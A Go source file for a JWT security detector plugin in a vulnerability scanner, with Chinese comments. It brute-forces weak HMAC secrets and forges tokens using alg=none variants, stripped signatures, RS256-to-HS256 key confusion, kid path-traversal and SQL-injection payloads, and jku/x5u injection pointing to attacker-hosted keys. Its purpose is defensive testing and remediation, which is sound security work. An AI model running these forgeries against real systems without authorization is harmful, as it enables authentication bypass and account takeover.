@@ -0,0 +1,707 @@
+package jwt
+
+import (
+	"bufio"
+	"context"
+	"crypto/rsa"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/http"
+	"net/url"
+	"os"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/dronesec/droneriskscan/internal/detector"
+	"github.com/dronesec/droneriskscan/internal/transport"
+	"github.com/dronesec/droneriskscan/pkg/models"
+)
+
+// defaultWordlist 内置的弱HMAC密钥字典，包含各框架文档和示例代码中的默认值
+var defaultWordlist = []string{
+	"", "secret", "Secret", "SECRET", "secret123", "secretkey", "secret_key", "secret-key", "SECRET_KEY",
+	"jwt", "jwtsecret", "jwt_secret", "jwt-secret", "JWT_SECRET", "jwtkey", "jwt_key", "jwtSecret",
+	"your-256-bit-secret", "your-384-bit-secret", "your-512-bit-secret", "your_jwt_secret", "your-secret-key",
+	"your_secret_key", "yoursecret", "mysecret", "my_secret", "my-secret", "mysecretkey", "supersecret",
+	"super-secret", "super_secret", "topsecret", "s3cr3t", "s3cret", "changeme", "change_me", "changeit",
+	"password", "Password", "password123", "passw0rd", "123456", "12345678", "123456789", "qwerty",
+	"letmein", "admin", "administrator", "test", "testing", "default", "key", "private", "privatekey",
+	"token", "auth", "authsecret", "hs256", "HS256", "development", "dev", "production", "prod",
+	"keyboard cat", "shhhhh", "shhhhhhared-secret", "gZH75aKtMN3Yj0iPS4hcgUuTwjAzZr9C", "app_secret",
+	"appsecret", "api_secret", "apisecret", "session_secret", "node", "express", "django", "flask",
+	"laravel", "spring", "rails", "hello", "welcome", "example", "sample", "demo",
+}
+
+// jwksPaths 常见的公钥（JWKS）发布路径
+var jwksPaths = []string{
+	"/.well-known/jwks.json",
+	"/jwks.json",
+	"/.well-known/openid-configuration",
+	"/oauth/jwks",
+	"/api/jwks",
+	"/auth/jwks",
+}
+
+// JWTDetector JWT安全检测器 - 从请求头、Cookie和响应中发现JWT并解码，离线爆破弱HMAC密钥，
+// 并以alg=none、去掉签名、RS256→HS256密钥混淆、kid注入和jku/x5u注入伪造令牌，服务端接受伪造令牌时判定存在漏洞
+type JWTDetector struct {
+	*detector.BasePlugin
+	oobProvider detector.OOBProvider
+
+	mutex      sync.Mutex
+	identities []detector.Identity
+	wordlist   []string
+	tested     map[string]bool                      // 已在依赖令牌的请求上完成伪造测试的令牌
+	cracked    map[string]bool                      // 已离线爆破过的令牌
+	publicKeys map[string]map[string]*rsa.PublicKey // 源 -> kid -> 公钥，获取失败时为nil
+	attacker   *attackerKey
+}
+
+// tokenLocation 令牌在请求中的位置
+type tokenLocation struct {
+	Position models.Position // HEADER或COOKIE
+	Name     string          // 请求头名或Cookie名
+	Prefix   string          // 请求头中令牌前的内容，如 "Bearer "
+	Source   string          // 发现位置描述
+}
+
+// foundToken 发现的令牌
+type foundToken struct {
+	token    *Token
+	location tokenLocation
+}
+
+// forgery 一个伪造令牌
+type forgery struct {
+	Technique   string
+	Title       string
+	Description string
+	Token       string
+	CWE         string
+	OOBID       string // jku/x5u注入使用的关联ID
+}
+
+// tokenResponse 请求响应摘要
+type tokenResponse struct {
+	status   int
+	location string
+	length   int
+}
+
+// NewJWTDetector 创建JWT检测器
+func NewJWTDetector(httpClient transport.HTTPClient) *JWTDetector {
+	base := detector.NewBasePlugin(
+		"jwt-detector",
+		detector.PluginTypeActive,
+		models.CategoryAuth,
+		models.SeverityHigh,
+	)
+
+	base.SetDescription("检测JWT安全问题：alg=none、签名未校验、RS256→HS256密钥混淆、kid路径/SQL注入、jku/x5u注入及弱HMAC密钥")
+	base.SetAuthor("DroneRiskScan Team")
+	base.SetVersion("1.0.0")
+	base.SetHTTPClient(httpClient)
+
+	return &JWTDetector{
+		BasePlugin: base,
+		wordlist:   append([]string{}, defaultWordlist...),
+		tested:     make(map[string]bool),
+		cracked:    make(map[string]bool),
+		publicKeys: make(map[string]map[string]*rsa.PublicKey),
+	}
+}
+
+// SetOOBProvider 设置带外交互提供者，未设置或不支持托管内容时跳过jku/x5u注入
+func (d *JWTDetector) SetOOBProvider(provider detector.OOBProvider) {
+	d.oobProvider = provider
+}
+
+// SetIdentities 设置登录身份，只使用主身份的认证头和Cookie
+func (d *JWTDetector) SetIdentities(identities []detector.Identity) {
+	d.mutex.Lock()
+	defer d.mutex.Unlock()
+	d.identities = identities
+}
+
+// LoadWordlist 从文件追加HMAC密钥字典，每行一个
+func (d *JWTDetector) LoadWordlist(path string) error {
+	file, err := os.Open(path)
+	if err != nil {
+		return fmt.Errorf("打开字典文件失败: %w", err)
+	}
+	defer file.Close()
+
+	var words []string
+	scanner := bufio.NewScanner(file)
+	for scanner.Scan() {
+		words = append(words, strings.TrimRight(scanner.Text(), "\r"))
+	}
+	if err := scanner.Err(); err != nil {
+		return fmt.Errorf("读取字典文件失败: %w", err)
+	}
+
+	d.mutex.Lock()
+	d.wordlist = append(d.wordlist, words...)
+	d.mutex.Unlock()
+	return nil
+}
+
+// Execute 执行JWT检测
+func (d *JWTDetector) Execute(ctx context.Context, target *detector.ScanTarget) (*detector.DetectionResult, error) {
+	result := &detector.DetectionResult{
+		IsVulnerable:    false,
+		Vulnerabilities: []*models.Vulnerability{},
+		Evidence:        []detector.Evidence{},
+		Metadata:        make(map[string]interface{}),
+	}
+
+	d.mutex.Lock()
+	var identity *detector.Identity
+	if len(d.identities) > 0 {
+		identity = &d.identities[0]
+	}
+	d.mutex.Unlock()
+
+	found := d.collectTokens(target, identity)
+	if len(found) == 0 {
+		result.Metadata["message"] = "未发现JWT"
+		return result, nil
+	}
+
+	// 重定向通常是跳转登录页，按拒绝访问处理
+	ctx = transport.WithoutRedirects(ctx)
+	tested := 0
+
+	for _, f := range found {
+		select {
+		case <-ctx.Done():
+			return result, ctx.Err()
+		default:
+		}
+
+		d.mutex.Lock()
+		alreadyTested := d.tested[f.token.Raw]
+		alreadyCracked := d.cracked[f.token.Raw]
+		d.cracked[f.token.Raw] = true
+		wordlist := d.wordlist
+		d.mutex.Unlock()
+		if alreadyTested {
+			continue
+		}
+
+		// 令牌需要在当前请求中起作用：去掉令牌后响应不同，才能判断伪造令牌是否被接受
+		valid, errValid := d.send(ctx, target, identity, f.location, f.token.Raw)
+		none, errNone := d.send(ctx, target, identity, f.location, "")
+		verifiable := errValid == nil && errNone == nil && valid.ok() && !valid.similar(none)
+		tested += 2
+
+		if !alreadyCracked {
+			if secret, ok := crackSecret(f.token, wordlist); ok {
+				vuln := d.weakSecretFinding(ctx, target, identity, f, secret, valid, none, verifiable)
+				result.IsVulnerable = true
+				result.Vulnerabilities = append(result.Vulnerabilities, vuln)
+				fmt.Printf("[SUCCESS] 发现弱JWT密钥: %q (%s)\n", secret, f.location.Source)
+			}
+		}
+
+		if !verifiable {
+			continue
+		}
+		d.mutex.Lock()
+		d.tested[f.token.Raw] = true
+		d.mutex.Unlock()
+
+		fmt.Printf("[INFO] JWT检测器正在测试令牌(%s, alg=%s): %s\n", f.location.Source, f.token.Alg(), target.URL.String())
+
+		for _, group := range d.forgeries(ctx, target, f.token) {
+			var hit *forgery
+			var hitResp *tokenResponse
+			for i := range group {
+				tested++
+				fmt.Printf("[DEBUG] 测试JWT伪造: %s\n", group[i].Title)
+				resp, err := d.send(ctx, target, identity, f.location, group[i].Token)
+				if err != nil {
+					continue
+				}
+				if resp.ok() && resp.similar(valid) && !resp.similar(none) {
+					hit, hitResp = &group[i], resp
+					break
+				}
+			}
+
+			if hit == nil {
+				// jku/x5u未被接受时，检查服务端是否请求了攻击者地址
+				for i := range group {
+					if group[i].OOBID != "" && d.oobProvider.WaitForInteraction(ctx, group[i].OOBID, 2*time.Second) {
+						vuln := d.buildVulnerability(target, f, &group[i], models.SeverityMedium, 5.8, "CWE-918",
+							fmt.Sprintf("服务端按令牌头部的%s获取了攻击者控制的地址，虽然伪造令牌未被接受，但可被用于服务端请求伪造", strings.TrimSuffix(group[i].Technique, "-injection")),
+							"收到来自目标服务器的带外HTTP回连", 0.8)
+						result.IsVulnerable = true
+						result.Vulnerabilities = append(result.Vulnerabilities, vuln)
+						break
+					}
+				}
+				continue
+			}
+
+			vuln := d.buildVulnerability(target, f, hit, models.SeverityCritical, 9.1, hit.CWE, hit.Description,
+				fmt.Sprintf("伪造令牌请求返回 HTTP %d，与原令牌一致；不带令牌返回 HTTP %d", hitResp.status, none.status), 0.95)
+			result.IsVulnerable = true
+			result.Vulnerabilities = append(result.Vulnerabilities, vuln)
+			fmt.Printf("[SUCCESS] 发现JWT伪造(%s): %s\n", hit.Title, target.URL.String())
+
+			// 服务端完全不校验签名时其余伪造必然成功，不再重复上报
+			if hit.Technique == "signature-not-verified" {
+				break
+			}
+		}
+	}
+
+	result.Metadata["tested_parameters"] = tested
+	result.Metadata["detection_time"] = time.Now().Format(time.RFC3339)
+	result.Metadata["vulnerabilities_found"] = len(result.Vulnerabilities)
+	return result, nil
+}
+
+// collectTokens 从认证头、请求头、Cookie和基准响应中发现JWT；响应中的令牌按Bearer认证头重放
+func (d *JWTDetector) collectTokens(target *detector.ScanTarget, identity *detector.Identity) []foundToken {
+	var found []foundToken
+	seen := make(map[string]bool)
+	add := func(raw string, location tokenLocation) {
+		if seen[raw] {
+			return
+		}
+		token, err := ParseToken(raw)
+		if err != nil {
+			return
+		}
+		seen[raw] = true
+		found = append(found, foundToken{token: token, location: location})
+	}
+
+	headerSources := []map[string]string{target.Headers}
+	var cookies []*http.Cookie
+	if identity != nil {
+		headerSources = append([]map[string]string{identity.Headers}, headerSources...)
+		cookies = append(cookies, identity.Cookies...)
+	}
+	for _, headers := range headerSources {
+		for name, value := range headers {
+			if idx := tokenPattern.FindStringIndex(value); idx != nil {
+				add(value[idx[0]:idx[1]], tokenLocation{Position: models.PositionHEADER, Name: name, Prefix: value[:idx[0]], Source: "请求头 " + name})
+			}
+		}
+	}
+
+	for name, value := range target.Cookies {
+		cookies = append(cookies, &http.Cookie{Name: name, Value: value})
+	}
+	for _, cookie := range cookies {
+		if tokenPattern.FindString(cookie.Value) == cookie.Value {
+			add(cookie.Value, tokenLocation{Position: models.PositionCOOKIE, Name: cookie.Name, Source: "Cookie " + cookie.Name})
+		}
+	}
+
+	bearer := tokenLocation{Position: models.PositionHEADER, Name: "Authorization", Prefix: "Bearer "}
+	if resp := target.BaselineResponse; resp != nil {
+		for _, cookie := range resp.Cookies() {
+			if tokenPattern.FindString(cookie.Value) == cookie.Value {
+				add(cookie.Value, tokenLocation{Position: models.PositionCOOKIE, Name: cookie.Name, Source: "响应Set-Cookie " + cookie.Name})
+			}
+		}
+		for name, values := range resp.Header {
+			if name == "Set-Cookie" {
+				continue
+			}
+			for _, value := range values {
+				for _, raw := range tokenPattern.FindAllString(value, -1) {
+					location := bearer
+					location.Source = "响应头 " + name
+					add(raw, location)
+				}
+			}
+		}
+	}
+	for _, raw := range tokenPattern.FindAllString(string(target.BaselineBody), 5) {
+		location := bearer
+		location.Source = "响应正文"
+		add(raw, location)
+	}
+
+	return found
+}
+
+// forgeries 按攻击手法分组的伪造令牌，组内任一令牌被接受即上报该手法
+func (d *JWTDetector) forgeries(ctx context.Context, target *detector.ScanTarget, token *Token) [][]forgery {
+	var groups [][]forgery
+
+	// 签名未校验：篡改签名、去掉签名
+	strip := forgery{
+		Technique:   "signature-not-verified",
+		Title:       "JWT Signature Not Verified",
+		Description: "服务端不校验JWT签名，攻击者可以任意修改令牌载荷（如用户ID、角色）",
+		CWE:         "CWE-347",
+	}
+	var stripGroup []forgery
+	if len(token.Signature) > 0 {
+		corrupted := append([]byte{}, token.Signature...)
+		corrupted[len(corrupted)-1] ^= 0x01
+		f := strip
+		f.Token = token.SigningInput() + "." + base64.RawURLEncoding.EncodeToString(corrupted)
+		stripGroup = append(stripGroup, f)
+	}
+	f := strip
+	f.Token = token.SigningInput() + "."
+	stripGroup = append(stripGroup, f)
+	groups = append(groups, stripGroup)
+
+	// alg=none，覆盖大小写变体以绕过黑名单
+	var noneGroup []forgery
+	for _, alg := range []string{"none", "None", "NONE", "nOnE"} {
+		noneGroup = append(noneGroup, forgery{
+			Technique:   "alg-none",
+			Title:       "JWT alg=none Accepted",
+			Description: fmt.Sprintf("服务端接受alg=%s的无签名令牌，攻击者可以任意伪造令牌", alg),
+			Token:       token.withHeader(map[string]interface{}{"alg": alg}) + "." + token.PayloadB64 + ".",
+			CWE:         "CWE-347",
+		})
+	}
+	groups = append(groups, noneGroup)
+
+	// RS256→HS256密钥混淆：用公钥作为HMAC密钥签名
+	if alg := strings.ToUpper(token.Alg()); strings.HasPrefix(alg, "RS") || strings.HasPrefix(alg, "PS") {
+		var confusionGroup []forgery
+		for kid, key := range d.fetchPublicKeys(ctx, target, token) {
+			header := token.withHeader(map[string]interface{}{"alg": "HS256"})
+			for _, secret := range publicKeyEncodings(key) {
+				confusionGroup = append(confusionGroup, forgery{
+					Technique:   "key-confusion",
+					Title:       "JWT Algorithm Confusion (RS256 to HS256)",
+					Description: fmt.Sprintf("服务端按令牌头部的alg选择算法，把RSA公钥（kid=%q）当作HS256密钥校验，攻击者可以用公开的公钥伪造令牌", kid),
+					Token:       signHMAC("HS256", header, token.PayloadB64, secret),
+					CWE:         "CWE-327",
+				})
+			}
+		}
+		if len(confusionGroup) > 0 {
+			groups = append(groups, confusionGroup)
+		}
+	}
+
+	// kid注入：指向内容已知的文件，或通过SQL注入让密钥查询返回指定值
+	kidCases := []struct {
+		kid, secret, technique, description, cwe string
+	}{
+		{"../../../../../../../../dev/null", "", "kid-path-traversal", "令牌头部的kid被用作密钥文件路径，指向/dev/null后可用空密钥伪造令牌", "CWE-22"},
+		{"/dev/null", "", "kid-path-traversal", "令牌头部的kid被用作密钥文件路径，指向/dev/null后可用空密钥伪造令牌", "CWE-22"},
+		{"drs' UNION SELECT 'drscan'-- -", "drscan", "kid-sql-injection", "令牌头部的kid被拼接进密钥查询的SQL语句，通过UNION注入可以指定签名密钥", "CWE-89"},
+		{"drs' UNION SELECT 'drscan'#", "drscan", "kid-sql-injection", "令牌头部的kid被拼接进密钥查询的SQL语句，通过UNION注入可以指定签名密钥", "CWE-89"},
+	}
+	var kidPathGroup, kidSQLGroup []forgery
+	for _, c := range kidCases {
+		header := token.withHeader(map[string]interface{}{"alg": "HS256", "kid": c.kid})
+		f := forgery{
+			Technique:   c.technique,
+			Title:       "JWT kid Header Injection",
+			Description: c.description,
+			Token:       signHMAC("HS256", header, token.PayloadB64, []byte(c.secret)),
+			CWE:         c.cwe,
+		}
+		if c.technique == "kid-path-traversal" {
+			kidPathGroup = append(kidPathGroup, f)
+		} else {
+			kidSQLGroup = append(kidSQLGroup, f)
+		}
+	}
+	groups = append(groups, kidPathGroup, kidSQLGroup)
+
+	// jku/x5u注入：指向带外服务器托管的攻击者JWKS/证书，用攻击者私钥签名
+	if host, ok := d.oobProvider.(detector.OOBContentHost); ok {
+		if attacker := d.attackerKey(); attacker != nil {
+			hosted := []struct {
+				name        string
+				contentType string
+				body        []byte
+			}{
+				{"jku", "application/json", attacker.jwks},
+				{"x5u", "application/x-pem-file", attacker.certPEM},
+			}
+			for _, param := range hosted {
+				interaction := d.oobProvider.NewInteraction()
+				host.ServeContent(interaction.ID, param.contentType, param.body)
+
+				header := token.withHeader(map[string]interface{}{"alg": "RS256", "kid": attacker.kid, param.name: interaction.URL})
+				forged, err := signRS256(header, token.PayloadB64, attacker.private)
+				if err != nil {
+					continue
+				}
+				groups = append(groups, []forgery{{
+					Technique:   param.name + "-injection",
+					Title:       fmt.Sprintf("JWT %s Header Injection", param.name),
+					Description: fmt.Sprintf("服务端从令牌头部%s指定的任意地址获取验签公钥，攻击者可以用自己的密钥签发令牌", param.name),
+					Token:       forged,
+					CWE:         "CWE-347",
+					OOBID:       interaction.ID,
+				}})
+			}
+		}
+	}
+
+	return groups
+}
+
+// attackerKey 懒加载攻击者密钥
+func (d *JWTDetector) attackerKey() *attackerKey {
+	d.mutex.Lock()
+	defer d.mutex.Unlock()
+
+	if d.attacker == nil {
+		key, err := newAttackerKey()
+		if err != nil {
+			fmt.Printf("[WARN] %v\n", err)
+			return nil
+		}
+		d.attacker = key
+	}
+	return d.attacker
+}
+
+// fetchPublicKeys 获取RSA公钥：令牌头部jku指向的JWKS和目标站点常见的JWKS路径，按kid优先；每个源只获取一次
+func (d *JWTDetector) fetchPublicKeys(ctx context.Context, target *detector.ScanTarget, token *Token) map[string]*rsa.PublicKey {
+	origin := target.URL.Scheme + "://" + target.URL.Host
+
+	d.mutex.Lock()
+	keys, cached := d.publicKeys[origin]
+	d.mutex.Unlock()
+
+	if !cached {
+		var candidates []string
+		if jku, ok := token.Header["jku"].(string); ok && (strings.HasPrefix(jku, "http://") || strings.HasPrefix(jku, "https://")) {
+			candidates = append(candidates, jku)
+		}
+		for _, path := range jwksPaths {
+			candidates = append(candidates, origin+path)
+		}
+
+		for _, candidate := range candidates {
+			body, err := d.get(ctx, candidate)
+			if err != nil {
+				continue
+			}
+			if strings.HasSuffix(candidate, "openid-configuration") {
+				var config struct {
+					JWKSURI string `json:"jwks_uri"`
+				}
+				if json.Unmarshal(body, &config) != nil || config.JWKSURI == "" {
+					continue
+				}
+				if body, err = d.get(ctx, config.JWKSURI); err != nil {
+					continue
+				}
+			}
+			if parsed, err := parseJWKS(body); err == nil {
+				keys = parsed
+				break
+			}
+		}
+
+		d.mutex.Lock()
+		d.publicKeys[origin] = keys
+		d.mutex.Unlock()
+	}
+
+	if kid, ok := token.Header["kid"].(string); ok {
+		if key, exists := keys[kid]; exists {
+			return map[string]*rsa.PublicKey{kid: key}
+		}
+	}
+	return keys
+}
+
+// get 获取公开资源，非2xx响应返回错误
+func (d *JWTDetector) get(ctx context.Context, rawURL string) ([]byte, error) {
+	req, err := http.NewRequestWithContext(ctx, "GET", rawURL, nil)
+	if err != nil {
+		return nil, fmt.Errorf("创建请求失败: %w", err)
+	}
+	resp, err := d.GetHTTPClient().Do(req)
+	if err != nil {
+		return nil, err
+	}
+	defer resp.Body.Close()
+	if resp.StatusCode/100 != 2 {
+		return nil, fmt.Errorf("HTTP %d", resp.StatusCode)
+	}
+	return io.ReadAll(io.LimitReader(resp.Body, 1<<20))
+}
+
+// send 以指定令牌重放目标请求，token为空时去掉令牌所在的请求头或Cookie
+func (d *JWTDetector) send(ctx context.Context, target *detector.ScanTarget, identity *detector.Identity, location tokenLocation, token string) (*tokenResponse, error) {
+	var body io.Reader
+	if target.Body != "" {
+		body = strings.NewReader(target.Body)
+	}
+	req, err := http.NewRequestWithContext(ctx, target.Method, target.URL.String(), body)
+	if err != nil {
+		return nil, fmt.Errorf("创建请求失败: %w", err)
+	}
+
+	for k, v := range target.Headers {
+		if !strings.EqualFold(k, "Content-Length") && !strings.EqualFold(k, "Cookie") {
+			req.Header.Set(k, v)
+		}
+	}
+	cookies := make(map[string]string)
+	for k, v := range target.Cookies {
+		cookies[k] = v
+	}
+	if identity != nil {
+		for k, v := range identity.Headers {
+			req.Header.Set(k, v)
+		}
+		for _, cookie := range identity.Cookies {
+			cookies[cookie.Name] = cookie.Value
+		}
+	}
+
+	switch location.Position {
+	case models.PositionCOOKIE:
+		if token == "" {
+			delete(cookies, location.Name)
+		} else {
+			cookies[location.Name] = token
+		}
+	default:
+		if token == "" {
+			req.Header.Del(location.Name)
+		} else {
+			req.Header.Set(location.Name, location.Prefix+token)
+		}
+	}
+	for name, value := range cookies {
+		req.AddCookie(&http.Cookie{Name: name, Value: value})
+	}
+
+	resp, err := d.GetHTTPClient().Do(req)
+	if err != nil {
+		return nil, err
+	}
+	defer resp.Body.Close()
+	respBody, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
+	if err != nil {
+		return nil, err
+	}
+
+	return &tokenResponse{
+		status:   resp.StatusCode,
+		location: resp.Header.Get("Location"),
+		length:   len(respBody),
+	}, nil
+}
+
+// ok 是否为成功响应
+func (r *tokenResponse) ok() bool {
+	return r.status >= 200 && r.status < 300
+}
+
+// similar 状态类别、跳转路径相同且正文长度接近
+func (r *tokenResponse) similar(o *tokenResponse) bool {
+	if r.status/100 != o.status/100 {
+		return false
+	}
+	if r.status/100 == 3 {
+		ra, errA := url.Parse(r.location)
+		rb, errB := url.Parse(o.location)
+		return errA == nil && errB == nil && ra.Host == rb.Host && ra.Path == rb.Path
+	}
+
+	tolerance := o.length / 10
+	if tolerance < 100 {
+		tolerance = 100
+	}
+	diff := r.length - o.length
+	if diff < 0 {
+		diff = -diff
+	}
+	return diff <= tolerance
+}
+
+// weakSecretFinding 离线爆破成功的弱密钥：用该密钥重新签发延长有效期的令牌，当前请求依赖令牌时验证服务端是否接受
+func (d *JWTDetector) weakSecretFinding(ctx context.Context, target *detector.ScanTarget, identity *detector.Identity, f foundToken, secret string, valid, none *tokenResponse, verifiable bool) *models.Vulnerability {
+	claims := make(map[string]interface{}, len(f.token.Claims))
+	for k, v := range f.token.Claims {
+		claims[k] = v
+	}
+	if exp, ok := claims["exp"].(float64); ok {
+		claims["exp"] = int64(exp) + 365*24*3600
+	} else {
+		claims["exp"] = time.Now().Add(365 * 24 * time.Hour).Unix()
+	}
+	forged := signHMAC(f.token.Alg(), f.token.HeaderB64, encodeSegment(claims), []byte(secret))
+
+	hit := &forgery{
+		Technique:   "weak-secret",
+		Title:       "JWT Signed with Weak HMAC Secret",
+		Description: fmt.Sprintf("%s签名密钥为字典中的弱口令 %q，攻击者可以离线爆破后签发任意令牌", f.token.Alg(), secret),
+		Token:       forged,
+		CWE:         "CWE-326",
+	}
+
+	severity, cvss, confidence := models.SeverityHigh, 8.1, 1.0
+	evidence := fmt.Sprintf("原令牌签名可由密钥 %q 复现；已用该密钥签发有效期延长一年的令牌", secret)
+	accepted := false
+	if verifiable {
+		if resp, err := d.send(ctx, target, identity, f.location, forged); err == nil && resp.ok() && resp.similar(valid) && !resp.similar(none) {
+			accepted = true
+			severity, cvss = models.SeverityCritical, 9.1
+			evidence += fmt.Sprintf("，服务端接受该令牌（HTTP %d）", resp.status)
+		}
+	}
+
+	vuln := d.buildVulnerability(target, f, hit, severity, cvss, hit.CWE, hit.Description, evidence, confidence)
+	vuln.Metadata["jwt_secret"] = secret
+	vuln.Metadata["server_accepted"] = fmt.Sprint(accepted)
+	return vuln
+}
+
+// buildVulnerability 构建JWT漏洞对象，伪造的令牌作为载荷和证据
+func (d *JWTDetector) buildVulnerability(target *detector.ScanTarget, f foundToken, hit *forgery, severity models.Severity, cvss float64, cwe, description, evidence string, confidence float64) *models.Vulnerability {
+	forged, _ := ParseToken(hit.Token)
+	forgedHeader := ""
+	if forged != nil {
+		forgedHeader = forged.HeaderJSON()
+	}
+
+	vuln := models.NewVulnerabilityBuilder().
+		WithType(models.VulnJWT).
+		WithCategory(models.CategoryAuth).
+		WithSeverity(severity).
+		WithTitle(hit.Title).
+		WithDescription(description).
+		WithURL(target.URL.String()).
+		WithMethod(target.Method).
+		WithParameter(f.location.Name, f.location.Position).
+		WithPayload(hit.Token).
+		WithEvidence(fmt.Sprintf("%s\n令牌来源: %s\n原令牌头部: %s\n原令牌载荷: %s\n伪造令牌头部: %s\n伪造令牌: %s",
+			evidence, f.location.Source, f.token.HeaderJSON(), f.token.ClaimsJSON(), forgedHeader, hit.Token)).
+		WithConfidence(confidence).
+		WithPlugin(d.Name()).
+		WithCWE(cwe).
+		WithCVSS(cvss).
+		WithSolution("服务端固定允许的签名算法，拒绝alg=none并始终校验签名；HMAC密钥使用足够长的随机值；只从受信任的固定地址获取公钥，不使用令牌头部的jku/x5u；kid只作为白名单内的键名查找").
+		WithReferences([]string{
+			"https://portswigger.net/web-security/jwt",
+			"https://cheatsheetseries.owasp.org/cheatsheets/JSON_Web_Token_for_Java_Cheat_Sheet.html",
+			"https://datatracker.ietf.org/doc/html/rfc8725",
+		}).
+		Build()
+
+	vuln.Metadata["jwt_technique"] = hit.Technique
+	vuln.Metadata["original_alg"] = f.token.Alg()
+	vuln.Metadata["token_source"] = f.location.Source
+	vuln.Metadata["forged_token"] = hit.Token
+	return vuln
+}